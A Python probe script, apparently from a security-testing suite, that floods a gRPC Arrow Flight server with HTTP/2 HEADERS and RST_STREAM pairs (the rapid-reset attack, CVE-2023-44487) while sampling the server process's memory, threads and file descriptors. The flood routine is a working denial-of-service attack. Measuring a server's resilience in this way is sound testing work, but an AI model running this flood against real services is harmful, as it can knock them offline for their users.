"""An HTTP/2 rapid-reset (CVE-2023-44487) probe, built on the `h2` library (through
h2probe.py, which the other gRPC CVE probes share).

On one connection it opens streams (HEADERS of a gRPC call) and cancels each at once
(RST_STREAM), in waves, as fast as the socket takes them, discarding whatever the
server answers. Meanwhile a sampler records the server's RSS, so a caller sees
before / peak / after. Usable as a program for measurements:

    python rapid_reset.py HOST:PORT PID [--waves 4] [--streams 50000]
"""

import time

import h2.errors

from h2probe import RssSampler, drain, grpc_request_headers, open_h2
from support import process_stats

PATH = "/arrow.flight.protocol.FlightService/ListActions"


def flood(host, port, waves=1, streams=50_000, chunk=500):
    """Runs the flood; returns how many HEADERS+RST_STREAM pairs went out and whether
    the server closed the connection (a GOAWAY or reset counts as closed)."""
    sock, conn = open_h2(host, port)
    headers = grpc_request_headers(f"{host}:{port}", PATH)
    sent = 0
    closed = False
    try:
        for _ in range(waves):
            for start in range(0, streams, chunk):
                for _ in range(min(chunk, streams - start)):
                    stream_id = conn.get_next_available_stream_id()
                    conn.send_headers(stream_id, headers)
                    conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
                    sent += 1
                sock.sendall(conn.data_to_send())
                if not drain(sock):
                    closed = True
                    return sent, closed
    except (BrokenPipeError, ConnectionResetError, TimeoutError):
        closed = True
    finally:
        sock.close()
    return sent, closed


def main():
    import argparse

    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("pid", type=int)
    parser.add_argument("--waves", type=int, default=4)
    parser.add_argument("--streams", type=int, default=50_000)
    parser.add_argument("--settle", type=float, default=5)
    args = parser.parse_args()
    host, port = args.address.rsplit(":", 1)
    before = process_stats(args.pid)
    with RssSampler(args.pid) as sampler:
        for wave in range(args.waves):
            sent, closed = flood(host, int(port), waves=1, streams=args.streams)
            print(f"wave {wave + 1}: {sent} pairs, connection closed by server: {closed}, "
                  f"RSS now {process_stats(args.pid)['rss'] >> 20} MiB", flush=True)
        time.sleep(args.settle)
    after = process_stats(args.pid)
    print(f"RSS before {before['rss'] >> 20} MiB, peak {sampler.peak >> 20} MiB, "
          f"after {after['rss'] >> 20} MiB (+{(after['rss'] - before['rss']) >> 20} MiB); "
          f"threads {before['threads']} -> {after['threads']}, fds {before['fds']} -> {after['fds']}")


if __name__ == "__main__":
    main()
